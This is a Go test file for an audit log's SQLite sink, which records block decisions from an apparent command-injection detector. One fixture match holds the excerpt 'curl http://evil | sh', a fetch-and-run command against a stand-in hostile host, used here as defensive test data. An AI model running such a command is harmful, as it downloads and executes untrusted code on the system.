package audit

import (
	"context"
	"path/filepath"
	"testing"
)

func TestSQLiteSink_Append(t *testing.T) {
	path := filepath.Join(t.TempDir(), "decisions.db")
	sink, err := OpenSQLiteSink(path)
	if err != nil {
		t.Fatalf("OpenSQLiteSink: %v", err)
	}
	defer sink.Close()

	ctx := context.Background()
	rec := testRecord("r1", 80)
	rec.Action = "block"
	rec.Categories = []string{"command_injection"}
	rec.Matches = []RecordedMatch{{
		SignatureID: "cmd_curl_pipe_shell",
		Category:    "command_injection",
		Depth:       1,
		Encoding:    "base64",
		Offset:      0,
		Excerpt:     "curl http://evil | sh",
	}}
	if err := sink.Append(ctx, rec); err != nil {
		t.Fatalf("Append: %v", err)
	}

	var count int
	row := sink.db.QueryRowContext(ctx,
		`SELECT COUNT(*) FROM decision_records WHERE action = 'block' AND score = 80`)
	if err := row.Scan(&count); err != nil {
		t.Fatalf("query: %v", err)
	}
	if count != 1 {
		t.Errorf("count = %d, want 1", count)
	}
}

func TestSQLiteSink_RejectsDuplicateRecordID(t *testing.T) {
	path := filepath.Join(t.TempDir(), "decisions.db")
	sink, err := OpenSQLiteSink(path)
	if err != nil {
		t.Fatalf("OpenSQLiteSink: %v", err)
	}
	defer sink.Close()

	ctx := context.Background()
	if err := sink.Append(ctx, testRecord("dup", 10)); err != nil {
		t.Fatalf("first Append: %v", err)
	}
	if err := sink.Append(ctx, testRecord("dup", 10)); err == nil {
		t.Fatal("duplicate record_id should fail")
	}
}
